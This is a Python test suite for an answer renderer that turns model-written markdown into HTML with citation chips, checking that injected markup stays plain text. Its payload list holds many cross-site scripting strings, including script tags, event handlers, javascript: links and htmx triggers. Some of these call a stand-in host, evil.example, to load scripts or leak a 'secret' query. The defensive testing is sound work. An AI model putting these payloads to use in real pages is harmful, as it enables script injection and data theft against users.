"""An answer as HTML: chips for citations, and nothing a model may smuggle in."""

from dataclasses import dataclass
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from answers.rendering import render


@dataclass(frozen=True)
class Source:
    number: int
    title: str
    body: str = ""


SOURCES = [
    Source(1, 'Rice <b>"straw"</b>', "Values *rose* to 5* in plots [12], a_b_c and `x`."),
    Source(2, "Stover"),
    Source(3, "Ash"),
]
TAGS = set(
    "a blockquote br code em h3 h4 h5 h6 hr li ol p pre span strong table tbody td th thead tr ul".split()
)


class Reader(HTMLParser):
    """Collects the tags, attributes and text a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def read(text: str) -> Reader:
    return Reader(render(text, SOURCES))


def links(text: str) -> list[tuple[str | None, str | None]]:
    return [(attrs["href"], attrs["aria-label"]) for tag, attrs in read(text).tags if tag == "a"]


def assert_harmless(reader: Reader) -> None:
    for tag, attrs in reader.tags:
        assert tag in TAGS
        if tag == "a":
            assert attrs["class"] == "cite"
            assert attrs["href"] in {"#source-1", "#source-2", "#source-3"}
        assert set(attrs) <= {"class", "href", "aria-label", "title", "interestfor", "start"}


def test_each_cited_number_is_a_chip() -> None:
    assert [href for href, _ in links("Fact [1]. Facts [2-3].")] == ["#source-1", "#source-2", "#source-3"]
    assert links("Fact [1].")[0][1] == 'Source 1: Rice <b>"straw"</b>'


def test_a_number_no_source_has_is_marked_and_no_link() -> None:
    reader = read("Fact [9]. Fact [0]. Fact [2, 9].")

    assert reader.text.strip() == "Fact [9?]. Fact [0?]. Fact 2[9?]."
    assert [attrs["href"] for tag, attrs in reader.tags if tag == "a"] == ["#source-2"]


def test_markdown_is_rendered_with_lowered_headings() -> None:
    html = render("# Head\n\n- *one* [1]\n\n| a | b |\n| - | - |\n| 1 | [2] |", SOURCES)

    for piece in ("<h3>Head</h3>", "<em>one</em>", "<table>", 'href="#source-2"'):
        assert piece in html


def test_brackets_in_code_stay_as_they_are() -> None:
    assert read("`x[1]`\n\n```\ny[2]\n```\n\n    z[3]").text.split() == ["x[1]", "y[2]", "z[3]"]


def test_a_verbatim_quotation_is_shown_character_for_character() -> None:
    assert read(f"“{SOURCES[0].body}” [1]").text.strip() == f"“{SOURCES[0].body}” 1"


def test_private_characters_cannot_forge_a_chip() -> None:
    assert links("Fact \ue0000\ue001 and [1].") == [("#source-1", 'Source 1: Rice <b>"straw"</b>')]


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext></p><style><img src=1 onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=q><button>go</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='#source-1' onclick='alert(1)'>x</a>",
    "<a href='#source-1' style='position:fixed;inset:0'>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div hx-get='/admin/' hx-trigger='load'>x</div>",
    "<div data-hx-post='/logout/' data-hx-trigger='load'>x</div>",
    "<p hx-on::load='alert(1)'>x</p>",
    "<hx-partial hx-target='body'>x</hx-partial>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></x>",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x][pixel]\n\n[pixel]: https://evil.example/pixel.png",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](https://evil.example/?q=secret)",
    "[1](https://evil.example)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[1]: https://evil.example 'title'\n\n[1]",
    "<https://evil.example>",
    "<javascript:alert(1)>",
    "https://evil.example/?q=secret",
    "[`x`](javascript:alert(1))",
    "**[x](javascript:alert(1))**",
    "`<script>alert(1)</script>`",
    '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n| --- | --- |\n| <svg onload=x> | x |",
    "> <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "1. <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x6A;avascript:alert(1)",
    "\\<script>alert(1)\\</script>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "{{ settings.SECRET_KEY }} {% load x %}",
    "“<img src=x onerror=alert(1)>” [1]",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a\x0chref='javascript:alert(1)'>x</a>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_a_model_writes_becomes_more_than_text(payload: str) -> None:
    for text in (payload, f"Fact {payload} [1].", f"- {payload}\n- [2]"):
        assert_harmless(read(text))


@given(st.text(alphabet="ab<>/='\"[]()!`*_#|-\n \\&;:123“”\ue000\ue001", max_size=200))
def test_any_text_is_harmless(text: str) -> None:
    assert_harmless(read(text))


@pytest.mark.parametrize("text", [">" * 5000, "[" * 8000, "*a" * 5000, "- " * 3000, "|a" * 4000, "`" * 8000])
def test_nested_markup_is_bounded(text: str) -> None:
    assert_harmless(read(text))
